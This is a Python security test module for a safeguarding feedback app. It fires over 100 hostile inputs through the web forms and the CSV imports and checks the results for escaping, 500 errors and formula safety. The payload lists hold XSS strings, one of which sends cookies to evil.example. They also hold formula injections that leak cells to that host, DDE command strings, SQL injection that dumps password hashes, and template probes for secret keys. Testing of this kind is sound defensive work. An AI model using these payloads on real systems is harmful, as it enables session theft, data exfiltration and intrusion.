"""Hostile input: well over 100 payloads through every question type, the CSV import (web
and command line) and the exports.

What must hold, for every payload and every route:

* no 500 (an exception escaping a view counts as one: the test app propagates them);
* nothing stored is served unescaped: every staff page that shows answers (safeguarding
  queue and flagged answer, analysis pages, theme answer lists, the report, the round page)
  and every page that echoes a refused answer back is checked for the payload's tags, for
  event-handler attributes, ``javascript:`` addresses and other live markup;
* nothing in a CSV or XLSX export can run as a formula: no cell starts with ``= + - @``,
  a tab or a carriage return (or their full-width twins), and no XLSX cell is a formula.

The posting is done once per module (``hostile``) on one app and database, and the tests,
one per payload and route, read its records, so the suite stays fast.
"""

from __future__ import annotations

import csv
import io
import os
import re
import traceback
import uuid
import zipfile
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from urllib.parse import quote_from_bytes

import pandas as pd
import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

from feedback_app.answers import clean_text
from feedback_app import create_app
from feedback_app.db import db
from feedback_app.definitions import is_identifier, load_agencies
from feedback_app.links import create_links
from feedback_app.models import Answer, AnswerFeature, Response, Round, SafeguardingFlag
from feedback_app.rounds import create_round, find_version
from feedback_app.staff import create_user
from feedback_app.transfer import write_xlsx

ON_POSTGRES = bool(os.environ.get("TEST_DATABASE_URL"))
PASSWORD = "correct horse battery staple"
AGENCY = "Police"
# A phrase the safeguarding rules flag, and one that gives an answer a codebook theme, so
# that payloads reach the safeguarding pages and the theme answer lists.
CONCERN = " my grandad smacks me really hard"
THEME = " my social worker keeps changing"
SUFFIXED_UP_TO = 4000  # longer payloads are sent bare, so the suffix never makes them too long

# ---------------------------------------------------------------- the payloads

TEMPLATE_RESULT = "100001"  # what {{ 9091*11 }} would render as, were an answer ever run as a template

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "  javascript:alert(1)",
    '<a href="javascript:alert(1)">click me</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</blockquote><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<input value="x" onmouseover="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "data:text/html,<script>alert(1)</script>",
    '<form action="https://evil.example/steal"><button>Continue</button></form>',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<embed src=https://evil.example/x.swf>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>hi</marquee>",
]
TEMPLATES = [
    "{{ 9091*11 }}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{ request.environ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}",
    "{% endraw %}",
    "{% for x in range(3) %}loop{% endfor %}",
    "${9091*11}",
    "#{9091*11}",
    "<%= 9091*11 %>",
    "{{",
    "}}{%",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for more")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    'DDE("cmd";"/C calc";"!A0")',
    "=1+1\n=2+2",
    "'=1+1",
    '"=1+1"',
    "=" + "A" * 4999,
    "\x00=1+1",
]
SQL = [
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE answers; --',
    "'; DROP TABLE responses; --",
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT password_hash, email FROM staff_users --",
    "admin'--",
    "%' AND 1=1 AND '%'='",
    "\\'; --",
    "1' AND SLEEP(5)#",
    "$$; DROP TABLE answers; $$",
    "%_%",
]
CONTROLS = [
    "\x00",
    "before\x00after",
    "\x00<script>alert(1)</script>",
    "bell\x07 backspace\x08",
    "vertical\x0btab form\x0cfeed",
    "\x1b[31mred\x1b[0m",
    "delete\x7f",
    "next line\x85 here",
    "line\u2028separator\u2029paragraph",
    "\ufeffbyte order mark",
    "non-characters \ufffe\uffff",
    "a\r\nb\rc\nd",
    "".join(chr(code) for code in range(1, 32)) + "all controls",
    "unit\x1fseparator\x1erecord",
]
UNICODE = [
    "\u202egnp.exe",
    "\u202e<script>alert(1)</script>",
    "right\u200fto\u200eleft marks",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f44d\U0001f3fd thumbs up",
    "\U0001f9d1\U0001f3ff\u200d\U0001f9b1 person",
    "\U0001f1ec\U0001f1e7 flag",
    "Z\u0335\u0327\u031b\u0316\u0344a\u0338l\u0337g\u0336o\u0335",
    "e\u0301 combining acute",
    "\ufdfa ligature",
    "\U0001d54f\U0001d54a\U0001d54a astral letters",
    "\u3164 hangul filler",
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\u4f60\u597d\uff0c\u4e16\u754c",
    "\u0130stanbul \u0131",
    "scr\u0456pt (Cyrillic i)",
    "\U0001f642" * 5000,
]
LENGTHS = [
    "a" * 5000,
    "a" * 5001,
    "\u00e9" * 5001,
    "<" * 5000,
    "<b>" * 2000,
    "x" * (1024 * 1024),
    "a" * 20,
    "a" * 21,
    "a" * 201,
]
WHITESPACE = [
    "",
    " ",
    "   \t\n  ",
    "\u3000",
    "\u200b",
    "\u00a0",
    "\r\n\r\n",
]

PAYLOADS: list[str] = list(dict.fromkeys(XSS + TEMPLATES + FORMULAS + SQL + CONTROLS + UNICODE + LENGTHS + WHITESPACE))

# Bytes that are not UTF-8, sent as they are: they cannot be put in a str.
RAW_BYTES = [
    b"\xff\xfe",
    b"\xc3\x28",
    b"\xed\xa0\x80",  # a lone surrogate, as CESU-8
    b"\xed\xbf\xbf\xed\xb0\x80",  # a surrogate pair, as CESU-8
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
    b"\xc0\xaf",  # an overlong "/"
    b"\xe2\x82",  # truncated
    b"<scr\xffipt>alert(1)</script>",
    b"=1+1\xff",
    b"\x00\xff\x00",
]


# Values for the form's hidden submission key and for the link token in the address.
HIDDEN_VALUES = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' OR 1=1 --",
    "=1+1",
    "../../admin",
    "\u202e\U0001f642",
    "x" * 64,
    "x" * 65,
    "x" * 100_000,
    "\x00",
    "\x01\x1f\x7f",
    "",
    " ",
]


def payload_id(payload: str) -> str:
    shown = payload if len(payload) <= 40 else f"{payload[:24]}...x{len(payload)}"
    return shown.encode("unicode_escape").decode("ascii")


def raw_id(data: bytes) -> str:
    return data.hex()


# ---------------------------------------------------------------- what the payloads go through

HOSTILE_V1 = """
slug: hostile
version: 1
title: "Every question type"
audience: practitioners
anonymous: true
cadence: quarterly
governance: {reviewed_by: "A", escalated_to: "B", frequency: "C", capture_point: "D"}
questions:
  - {key: lt, type: long_text, text: "Long text"}
  - {key: st, type: short_text, text: "Short text"}
  - {key: sc, type: single_choice, text: "Single choice", options: ["One", "Two"]}
  - {key: mc, type: multiple_choice, text: "Multiple choice", options: ["Red", "Blue"]}
  - {key: scale, type: scale_1_5, text: "Scale"}
  - {key: ypn, type: yes_partly_no, text: "Yes, partly or no"}
  - {key: rating, type: rag, text: "RAG"}
  - {key: count, type: number, text: "Bounded number", min: 0, max: 100}
  - {key: amount, type: number, text: "Any number"}
  - {key: ag, type: agency, text: "Agency"}
"""

AUDIT_YPN_REQUIRED = [
    "individual_needs", "referral_timely", "risk_identified", "child_appears_safe", "decision_making_matches_risk",
    "child_getting_help", "plan_in_place", "child_involved", "family_involved", "individual_needs_considered",
    "agencies_work_together",
]
AUDIT_VALID = {"auditor_agency": AGENCY, "case_reference": "REF-1", **{key: "Yes" for key in AUDIT_YPN_REQUIRED}}
PRACTITIONER_TEXT = ["strategy_knowledge_comments", "tools_barriers", "howe_model_barriers", "intervention_barriers",
                     "operational_changes"]


def _suffixed(payload: str, suffix: str) -> str:
    return payload + suffix if len(payload) <= SUFFIXED_UP_TO else payload


def web_posts(payload) -> dict[str, tuple[str, dict]]:
    """Name -> (questionnaire slug, answers) of every form post made with ``payload``.

    Text questions take the payload with valid closed answers, so that it is stored; closed
    questions take it with valid text, so each type's refusal is seen.
    """
    return {
        "children-text": ("children", {
            "what_helped": payload,
            "what_did_not_help": _suffixed(payload, CONCERN),
            "what_could_be_better": _suffixed(payload, THEME),
        }),
        "children-single-choice": ("children", {
            "knew_about_cp_plan": payload, "knows_social_worker_name": payload,
            "part_of_safety_planning": payload, "age_band": payload, "what_helped": "fine",
        }),
        "practitioners-long-text": ("practitioners", {
            "agency": AGENCY, **{key: _suffixed(payload, THEME) for key in PRACTITIONER_TEXT},
        }),
        "practitioners-agency-scale-multiple": ("practitioners", {
            "agency": payload, "role": payload, "strategy_knowledge": payload, "confidence_recognising": payload,
            "tools_used": [payload, payload],
        }),
        "audit-short-text": ("multi-agency-audit", {**AUDIT_VALID, "case_reference": payload,
                                                    "good_practice": payload}),
        "audit-yes-partly-no": ("multi-agency-audit", {
            **AUDIT_VALID, "auditor_agency": payload, **{key: payload for key in AUDIT_YPN_REQUIRED},
        }),
        "hostile-text": ("hostile", {"lt": payload, "st": payload}),
        "hostile-rag-number-choices": ("hostile", {
            "sc": payload, "mc": payload, "scale": payload, "ypn": payload, "rating": payload,
            "count": payload, "amount": payload, "ag": payload,
        }),
    }


WEB_ROUTES = list(web_posts("x"))

# ---------------------------------------------------------------- HTML checks

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "content"}
LIVE_TAGS = {"iframe", "object", "embed", "base", "style", "frame", "frameset", "applet", "marquee", "video",
             "math", "details"}
# An opening tag with something after its name (attributes, a slash): no page has one
# that an answer could also hold, unlike a bare <table> or <b>.
OPENING_TAG = re.compile(r"<[A-Za-z!][^<>\s/]*[\s/][^<>]*>|<script>", re.IGNORECASE)


class _LiveMarkup(HTMLParser):
    """Collects markup in a page that could run: event handlers, script addresses, inline scripts."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if name in URL_ATTRIBUTES and re.match(r"(javascript|vbscript|data:text/html)", value.replace("\x00", "")):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>")
            if name in URL_ATTRIBUTES and "evil.example" in value:
                self.problems.append(f"<{tag} {name}={value[:40]!r}> points off-site")
            if tag == "meta" and name == "http-equiv":
                self.problems.append("<meta http-equiv>")
        if tag in LIVE_TAGS:
            self.problems.append(f"<{tag}> element")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.problems.append("<img src=x>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"<script src={src!r}>")
            self._in_script = True

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append(f"inline script {data.strip()[:40]!r}")


def live_markup(html: str, standalone: bool = False) -> list[str]:
    """What in ``html`` could run in a browser; a ``standalone`` page (the downloaded
    report) may have its own <style> element, as long as it holds no answer."""
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    if standalone and parser.problems.count("<style> element") == 1:
        parser.problems.remove("<style> element")
    return parser.problems


def needles(payload: str) -> list[str]:
    """Forms of ``payload`` that must never appear as they are in a page: the whole payload
    (if it has markup in it) and every opening tag in it."""
    found = []
    stripped = payload.strip()
    if any(char in stripped for char in "<>\"'") and len(stripped) > 1:
        found.append(stripped)
    found.extend(OPENING_TAG.findall(payload))
    return list(dict.fromkeys(found))


def unescaped(html: str, payload: str) -> list[str]:
    """The forms of ``payload`` found raw in ``html``; a template result counts as one."""
    found = [needle[:60] for needle in needles(payload) if needle in html]
    if "9091*11" in payload and TEMPLATE_RESULT in html:
        found.append(f"template evaluated ({TEMPLATE_RESULT})")
    return found


# ---------------------------------------------------------------- one app for the module


@dataclass
class Outcome:
    """What one request did."""

    status: int
    error: str | None = None  # the traceback of an exception that escaped (a 500)
    problems: list[str] = field(default_factory=list)  # live or unescaped markup in the page


@dataclass
class Hostile:
    app: object
    client: object
    rounds: dict[str, int]
    tokens: dict[str, str]
    folder: object
    web: dict[tuple[int, str], Outcome] = field(default_factory=dict)
    raw: dict[tuple[int, str], Outcome] = field(default_factory=dict)
    files: dict[tuple[str, str], Outcome] = field(default_factory=dict)
    hidden: dict[tuple[str, str], Outcome] = field(default_factory=dict)
    pages: dict[str, str] = field(default_factory=dict)
    page_errors: dict[str, str] = field(default_factory=dict)


def call(action, *args, **kwargs):
    """(response, None) or (None, traceback): the test app re-raises what a view raised."""
    try:
        return action(*args, **kwargs), None
    except Exception:  # noqa: BLE001 - any escaping exception is a 500 to a real user
        return None, traceback.format_exc()


def _outcome(response, error, payloads=()) -> Outcome:
    if error is not None:
        return Outcome(500, error)
    problems = []
    if response.status_code not in (301, 302, 308) and response.mimetype == "text/html":
        html = response.get_data(as_text=True)
        problems = live_markup(html)
        for payload in payloads:
            problems += unescaped(html, payload)
    return Outcome(response.status_code, None, problems)


@pytest.fixture(scope="module")
def hostile(databases, tmp_path_factory):
    """One app on one database, every payload posted through every form; pages fetched after."""
    folder = tmp_path_factory.mktemp("hostile")
    url = databases.create(folder)
    app = create_app({
        "TESTING": True,
        "SECRET_KEY": "test-secret-key",
        "DATABASE_URL": url,
        "WTF_CSRF_ENABLED": False,
        "SUPPRESSION_THRESHOLD": 1,  # show every answer, so every stored payload is rendered
        "LINK_SUBMISSIONS_PER_MINUTE": 1_000_000,
        "LOCAL_HELP_NUMBER": "01234 000111",  # children's rounds open only with it
        "REQUEST_TIME_LIMIT_SECONDS": 60,  # see tests/conftest.py
    }, instance_path=str(folder / "instance"))
    runner = app.test_cli_runner()
    (folder / "defs").mkdir()
    (folder / "defs" / "hostile-v1.yaml").write_text(HOSTILE_V1, encoding="utf-8")
    for args in (["questionnaires", "sync"], ["questionnaires", "sync", "--path", str(folder / "defs")]):
        result = runner.invoke(args=args)
        assert result.exit_code == 0, result.output
    versions = {"children": 2, "practitioners": 1, "multi-agency-audit": 1, "hostile": 1}
    rounds, tokens = {}, {}
    with app.app_context():
        agencies = load_agencies()
        for slug, version in versions.items():
            for purpose in ("web", "import", "cli"):
                round_ = create_round(db.session, find_version(db.session, slug, version), f"{slug} {purpose}",
                                      date(2020, 1, 1), date(2099, 12, 31))
                rounds[f"{slug}:{purpose}"] = round_.id
                if purpose == "web":
                    tokens[slug] = create_links(db.session, round_, "open", agencies)[0].token
        create_user(db.session, "admin@example.org", PASSWORD, "admin")
    state = Hostile(app, app.test_client(), rounds, tokens, folder)
    try:
        yield state
    finally:
        app.extensions["feedback_db"].engine.dispose()
        databases.drop(url)


@pytest.fixture(scope="module")
def posted(hostile):
    """Every payload through every form, and invalid UTF-8 through the text questions."""
    client = hostile.client
    for index, payload in enumerate(PAYLOADS):
        for route, (slug, answers) in web_posts(payload).items():
            data = {f"q_{key}": value for key, value in answers.items()}
            data["submission_key"] = uuid.uuid4().hex
            response, error = call(client.post, f"/r/{hostile.tokens[slug]}/questions", data=data)
            hostile.web[index, route] = _outcome(response, error, [payload])
    # The hidden submission key and the link token are the respondent's to change too.
    for key in HIDDEN_VALUES:
        response, error = call(client.post, f"/r/{hostile.tokens['hostile']}/questions",
                               data={"q_sc": "One", "submission_key": key})
        hostile.hidden[key, "submission-key"] = _outcome(response, error, [key])
        response, error = call(client.get, f"/r/{quote_from_bytes(key.encode('utf-8'), safe='')}/questions")
        hostile.hidden[key, "link-token"] = _outcome(response, error, [key])
    for index, raw in enumerate(RAW_BYTES):
        token = hostile.tokens["hostile"]
        bodies = {
            "percent-encoded": b"q_lt=" + quote_from_bytes(raw).encode() + b"&q_st=" + quote_from_bytes(raw).encode(),
            "raw-bytes": b"q_lt=" + raw.replace(b"&", b"%26") + b"&q_sc=" + raw.replace(b"&", b"%26"),
        }
        for route, body in bodies.items():
            body += b"&submission_key=" + uuid.uuid4().hex.encode()
            response, error = call(client.post, f"/r/{token}/questions", data=body,
                                   content_type="application/x-www-form-urlencoded")
            hostile.raw[index, route] = _outcome(response, error, [raw.decode("utf-8", "replace")])
        boundary = "hostileboundary"
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"q_lt\"\r\n\r\n").encode() + raw + (
            f"\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"submission_key\"\r\n\r\n"
            f"{uuid.uuid4().hex}\r\n--{boundary}--\r\n").encode()
        response, error = call(client.post, f"/r/{token}/questions", data=body,
                               content_type=f"multipart/form-data; boundary={boundary}")
        hostile.raw[index, "multipart"] = _outcome(response, error, [raw.decode("utf-8", "replace")])
    return hostile


# ---------------------------------------------------------------- the import

TEXT_HEADER = ["what_helped", "what_did_not_help", "what_could_be_better"]
ALL_TYPES_HEADER = ["lt", "st", "sc", "mc", "scale", "ypn", "rating", "count", "amount", "ag"]


def csv_file(header: list[str], row: list[str]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerow(row)
    return out.getvalue().encode("utf-8")


def import_files(payload: str) -> dict[str, tuple[str, bytes]]:
    """Name -> (round, CSV file) of the imports made with ``payload``."""
    return {
        "import-text": ("children", csv_file(TEXT_HEADER, [payload, _suffixed(payload, CONCERN),
                                                          _suffixed(payload, THEME)])),
        "import-every-type": ("hostile", csv_file(ALL_TYPES_HEADER, [payload] * len(ALL_TYPES_HEADER))),
        "import-header": ("hostile", csv_file(["lt", payload], ["fine", "fine"])),
    }


# Whole files that are wrong in themselves.
BAD_FILES = {
    "empty": b"",
    "bom-only": b"\xef\xbb\xbf",
    "header-only": b"what_helped\r\n",
    "latin-1": "what_helped\r\ncaf\u00e9 \u00a3\r\n".encode("latin-1"),
    "utf-16": "what_helped\r\nfine\r\n".encode("utf-16"),
    "lone-surrogate": b"what_helped\r\n\xed\xa0\x80\r\n",
    "invalid-utf8-header": b"what_\xffhelped\r\nfine\r\n",
    "nul-in-cell": b"what_helped\r\nbefore\x00after\r\n",
    "nul-file": b"\x00" * 1000,
    "binary": bytes(range(256)) * 4,
    "xlsx-zip": b"PK\x03\x04" + b"\x00" * 200,
    "unclosed-quote": b'what_helped\r\n"never closed\r\n',
    "stray-quote": b'what_helped\r\nab"c"d\r\n',
    "semicolons": b"what_helped;age_band\r\nfine;8 to 11\r\n",
    "tabs": b"what_helped\tage_band\r\nfine\t8 to 11\r\n",
    "crlf-only": b"\r\n\r\n\r\n",
    "duplicate-header": b"what_helped,what_helped\r\na,b\r\n",
    "too-many-cells": b"what_helped\r\na,b,c\r\n",
    "unnamed-column": b"what_helped,\r\na,b\r\n",
    "bad-date": b"what_helped,submitted_at\r\nfine,=NOW()\r\n",
    "future-date": b"what_helped,submitted_at\r\nfine,2999-01-01\r\n",
    "bad-agency": b"what_helped,agency\r\nfine,<script>alert(1)</script>\r\n",
    "formula-agency": b"what_helped,agency\r\nfine,=HYPERLINK(\"http://evil.example\")\r\n",
    "one-mb-cell": b"what_helped\r\n" + b"x" * (1024 * 1024) + b"\r\n",
    "5000-columns": (",".join(f"c{i}" for i in range(5000)) + "\r\n" + ",".join("x" * 5000) + "\r\n").encode(),
    "over-10-mb": b"what_helped\r\n" + (b"y" * 1023 + b"\n") * (10 * 1024 + 1),
}


def multipart_file(name: str, data: bytes) -> tuple[bytes, str]:
    """A multipart body carrying ``data`` as the form's file (built here: the test client
    spools a large body to a temporary file that it never closes)."""
    boundary = uuid.uuid4().hex
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    head = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
            "Content-Type: text/csv\r\n\r\n")
    body = head.encode("utf-8") + data + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def _import_outcome(response, error, payloads=()) -> Outcome:
    outcome = _outcome(response, error, payloads)
    if outcome.error is None and outcome.status == 400:
        if "The file was not imported" not in response.get_data(as_text=True):
            outcome.problems.append("refused without saying why")
    return outcome


def _cli_outcome(result) -> Outcome:
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        error = "".join(traceback.format_exception(result.exception))
        return Outcome(500, error)
    problems = []
    if result.exit_code not in (0, 1):
        problems.append(f"exit code {result.exit_code}")
    if "Traceback" in result.output:
        problems.append("traceback in the output")
    if result.exit_code == 1 and "Error:" not in result.output:
        problems.append(f"refused without a message: {result.output[:200]!r}")
    return Outcome(result.exit_code, None, problems)


@pytest.fixture(scope="module")
def imported(posted):
    """Every payload through the admin upload and the ``responses import`` command."""
    hostile = posted
    _admin(hostile)
    runner = hostile.app.test_cli_runner()
    folder = hostile.folder / "imports"
    folder.mkdir()

    def upload(purpose, slug, name, data, payloads=()):
        body, content_type = multipart_file(name, data)
        response, error = call(
            hostile.client.post, f"/admin/rounds/{hostile.rounds[f'{slug}:{purpose}']}/import",
            data=body, content_type=content_type)
        return _import_outcome(response, error, payloads)

    def command(slug, path):
        return _cli_outcome(runner.invoke(args=["responses", "import", str(hostile.rounds[f"{slug}:cli"]), str(path)]))

    for index, payload in enumerate(PAYLOADS):
        for route, (slug, data) in import_files(payload).items():
            hostile.web[index, f"upload:{route}"] = upload("import", slug, "answers.csv", data, [payload])
            path = folder / f"{index}-{route}.csv"
            path.write_bytes(data)
            hostile.web[index, f"cli:{route}"] = command(slug, path)
    for index, raw in enumerate(RAW_BYTES):
        data = b"what_helped\r\n" + raw + b"\r\n"
        hostile.raw[index, "upload"] = upload("import", "children", "answers.csv", data)
        path = folder / f"raw-{index}.csv"
        path.write_bytes(data)
        hostile.raw[index, "cli"] = command("children", path)
    for name, data in BAD_FILES.items():
        hostile.files[name, "upload"] = upload("import", "children", "answers.csv", data)
        path = folder / f"bad-{name}.csv"
        path.write_bytes(data)
        hostile.files[name, "cli"] = command("children", path)
    for number, name in enumerate(("<script>alert(1)</script>.csv", "=1+1.csv", "../../etc/passwd", "\u202egnp.csv",
                                   "a\x00b.csv")):
        hostile.files[f"file name {name!r}", "upload"] = upload(
            "import", "children", name, f"what_helped\r\nfile name {number}\r\n".encode(), [name])
    return hostile


def _admin(hostile):
    response = hostile.client.post("/auth/login", data={"email": "admin@example.org", "password": PASSWORD})
    assert response.status_code == 302, response.data


@pytest.fixture(scope="module")
def pages(imported):
    """Every staff page that shows answers, fetched as an admin once everything is stored."""
    hostile = imported
    app = hostile.app
    urls = ["/admin/", "/safeguarding/", "/safeguarding/?show=all", "/analysis/", "/analysis/codebook"]
    with app.app_context():
        urls += [f"/admin/rounds/{rid}" for rid in hostile.rounds.values()]
        urls += [f"/safeguarding/{fid}" for fid in db.session.scalars(select(SafeguardingFlag.id))]
        themed = db.session.execute(
            select(Round.id, Round.version_id, Answer.question_key, AnswerFeature.themes)
            .join(Response, Response.round_id == Round.id).join(Answer, Answer.response_id == Response.id)
            .join(AnswerFeature, AnswerFeature.answer_id == Answer.id)
        ).all()
        slugs = {rid: db.session.get(Round, rid).version.slug for rid in hostile.rounds.values()}
    counts: dict[tuple[str, str, str, int], int] = {}
    keys: set[tuple[str, str]] = set()
    for round_id, _version, key, themes in themed:
        keys.add((slugs[round_id], key))
        for theme in themes:
            counts[slugs[round_id], key, theme, round_id] = counts.get((slugs[round_id], key, theme, round_id), 0) + 1
    for slug in sorted({slug for slug, _key in keys} | set(slugs.values())):
        urls += [f"/analysis/{slug}", f"/analysis/{slug}/report.html"]
    with app.app_context():
        for slug in set(slugs.values()):
            version = find_version(db.session, slug, None)
            # A case reference identifies a case: it has no analysis page (404), by design.
            urls += [f"/analysis/{slug}/{question.key}" for question in version.questions
                     if not is_identifier(question.key, question.settings)]
    for (slug, key, theme, round_id), count in sorted(counts.items()):
        urls.append(f"/analysis/{slug}/{key}/themes/{theme}?round={round_id}")
        for page in range(1, (count + 24) // 25 + 1):
            urls.append(f"/analysis/{slug}/{key}/themes/{theme}/answers?round={round_id}&page={page}")
    for url in dict.fromkeys(urls):
        response, error = call(hostile.client.get, url)
        if error is not None:
            hostile.page_errors[url] = error
        else:
            assert response.status_code == 200, (url, response.status_code)
            hostile.pages[url] = response.get_data(as_text=True)
    return hostile


# ---------------------------------------------------------------- known defects



def _cases():
    return [pytest.param(index, payload, id=payload_id(payload)) for index, payload in enumerate(PAYLOADS)]


# ---------------------------------------------------------------- the form posts


def test_there_are_at_least_100_distinct_payloads():
    assert len(PAYLOADS) + len(RAW_BYTES) >= 100
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize(("index", "payload"), _cases())
def test_every_question_type_takes_the_payload_without_a_500_or_live_markup(posted, index, payload):
    failures = {}
    for route in WEB_ROUTES:
        outcome = posted.web[index, route]
        if outcome.error or outcome.status not in (302, 400, 413) or outcome.problems:
            failures[route] = outcome
    assert not failures, failures


def _raw_cases():
    return [pytest.param(i, raw, id=raw_id(raw)) for i, raw in enumerate(RAW_BYTES)]


@pytest.mark.parametrize("value", [pytest.param(v, id=payload_id(v)) for v in HIDDEN_VALUES])
def test_a_hostile_link_token_is_not_found_never_a_500(posted, value):
    outcome = posted.hidden[value, "link-token"]
    assert outcome.error is None and outcome.status in (308, 404) and not outcome.problems, outcome


@pytest.mark.parametrize("value", [pytest.param(v, id=payload_id(v)) for v in HIDDEN_VALUES])
def test_a_hostile_submission_key_is_no_500(posted, value):
    outcome = posted.hidden[value, "submission-key"]
    assert outcome.error is None and outcome.status in (302, 400, 413) and not outcome.problems, outcome


@pytest.mark.parametrize(("index", "raw"), _raw_cases())
def test_invalid_utf8_in_a_form_post_is_no_500(posted, index, raw):
    for route in ("percent-encoded", "raw-bytes", "multipart"):
        outcome = posted.raw[index, route]
        assert outcome.error is None and outcome.status in (302, 400, 413) and not outcome.problems, (route, outcome)


@pytest.mark.parametrize(("index", "payload"), _cases())
def test_every_import_takes_the_payload_without_a_500_or_live_markup(imported, index, payload):
    failures = {}
    for route in import_files("x"):
        for way in ("upload", "cli"):
            outcome = imported.web[index, f"{way}:{route}"]
            allowed = (302, 400) if way == "upload" else (0, 1)
            if outcome.error or outcome.status not in allowed or outcome.problems:
                failures[f"{way}:{route}"] = outcome
    assert not failures, failures


@pytest.mark.parametrize(("index", "raw"), [pytest.param(i, raw, id=raw_id(raw)) for i, raw in enumerate(RAW_BYTES)])
def test_an_import_of_invalid_utf8_is_refused_with_a_message(imported, index, raw):
    upload, cli = imported.raw[index, "upload"], imported.raw[index, "cli"]
    assert upload.error is None and upload.status == 400 and not upload.problems, upload
    assert cli.error is None and cli.status == 1 and not cli.problems, cli


@pytest.mark.parametrize("name", BAD_FILES)
def test_an_odd_file_is_imported_or_refused_with_a_message_never_a_500(imported, name):
    for way, allowed in (("upload", (302, 400, 413)), ("cli", (0, 1))):
        outcome = imported.files[name, way]
        assert outcome.error is None and outcome.status in allowed and not outcome.problems, (way, outcome)


def test_a_hostile_file_name_is_no_500(imported):
    outcomes = {key: outcome for key, outcome in imported.files.items() if key[0].startswith("file name")}
    assert len(outcomes) == 5
    for key, outcome in outcomes.items():
        assert outcome.error is None and outcome.status in (302, 400) and not outcome.problems, (key, outcome)


# ---------------------------------------------------------------- the pages that show answers


def test_pages_that_show_answers_were_all_fetched(pages):
    assert not pages.page_errors, pages.page_errors
    kinds = {url.split("?")[0].split("/")[1] for url in pages.pages}
    assert {"admin", "safeguarding", "analysis"} <= kinds
    assert any(re.fullmatch(r"/safeguarding/\d+", url) for url in pages.pages), "no flagged answer was shown"
    assert any("/answers?" in url for url in pages.pages), "no theme answer list was shown"


def test_no_page_that_shows_answers_has_live_markup(pages):
    found = {url: problems for url, html in pages.pages.items()
             if (problems := live_markup(html, standalone=url.endswith("report.html")))}
    assert not found, found


@pytest.mark.parametrize(("index", "payload"), _cases())
def test_a_stored_payload_is_shown_escaped(pages, index, payload):
    found = {url: raw for url, html in pages.pages.items() if (raw := unescaped(html, payload))}
    assert not found, found
    stored = pages.web[index, "children-text"].status == 302
    if stored and "<" in payload and len(payload) <= SUFFIXED_UP_TO:
        shown = str(escape(clean_text(payload).strip()))  # control characters are dropped on arrival
        assert any(shown in html for html in pages.pages.values()), "the stored payload is shown nowhere"


# ---------------------------------------------------------------- the exports

